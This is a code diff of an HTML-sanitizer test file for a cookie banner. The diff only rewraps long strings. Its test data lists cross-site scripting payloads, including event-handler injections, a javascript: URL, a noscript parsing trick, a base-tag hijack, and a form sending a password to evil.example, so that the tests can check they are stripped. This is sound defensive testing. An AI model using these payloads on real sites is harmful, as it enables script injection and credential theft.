@@ -14,11 +14,13 @@ const hostile = [
   '<iframe srcdoc="<script>parent.harmed = 9</script>"></iframe>',
   '<p style="position:fixed;inset:0" id="top" class="sqs-cookie-banner-v2-accept" onmouseover="window.harmed = 10">words</p>',
   '<form action="https://evil.example"><input name="password"><button>steal</button></form>',
-  '<template><img src=x onerror="window.harmed = 11"></template><style>body{display:none}</style><base href="https://evil.example/">',
+  '<template><img src=x onerror="window.harmed = 11"></template><style>body{display:none}</style><base ' +
+    'href="https://evil.example/">',
   '<math><mi xlink:href="javascript:harmed=12">m</mi></math><noscript><p title="</noscript><img src=x onerror=harmed=13>">',
 ].join('');
 const kind =
-  '<p>Read <a href="/privacy" target="_blank">this</a>, <A HREF="https://law.example/">that</A> or <a href="mailto:us@site.example">ask</a>.<br><strong>Bold</strong> <em>words</em></p><ul><li>one</li></ul>';
+  '<p>Read <a href="/privacy" target="_blank">this</a>, <A HREF="https://law.example/">that</A> or <a ' +
+  'href="mailto:us@site.example">ask</a>.<br><strong>Bold</strong> <em>words</em></p><ul><li>one</li></ul>';
 
 const withBanner = (settings: object, more: TestPage = {}): TestPage => ({
   context: {
@@ -137,7 +139,8 @@ test('hostile text and labels do nothing: words are kept, scripts, handlers, sty
 test('links to the site, http, https and mailto are kept; a link to a new tab gets rel="noopener"', async () => {
   const { page } = await arrive('/kind');
   expect(await text(page)).toBe(
-    '<p>Read <a href="/privacy" target="_blank" rel="noopener">this</a>, <a href="https://law.example/">that</a> or <a href="mailto:us@site.example">ask</a>.<br><strong>Bold</strong> <em>words</em></p><ul><li>one</li></ul>',
+    '<p>Read <a href="/privacy" target="_blank" rel="noopener">this</a>, <a href="https://law.example/">that</a> or <a ' +
+      'href="mailto:us@site.example">ask</a>.<br><strong>Bold</strong> <em>words</em></p><ul><li>one</li></ul>',
   );
 });
 
